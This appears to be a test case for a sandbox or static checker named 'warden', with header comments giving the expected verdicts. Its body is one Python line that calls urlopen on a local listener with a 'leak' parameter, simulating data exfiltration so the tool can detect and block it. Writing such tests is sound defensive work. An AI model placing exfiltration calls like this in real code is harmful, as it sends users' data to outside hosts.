# warden-case: j-urllib-urlopen
# group: J
# technique: urllib.request.urlopen exfiltration
# variant: plain
# expect-static: deny
# expect-rules: IMP101
# expect-jail: no-connect tcp4:127.0.0.1:5758
import urllib.request

urllib.request.urlopen("http://127.0.0.1:5758/?leak=warden", timeout=3).read()
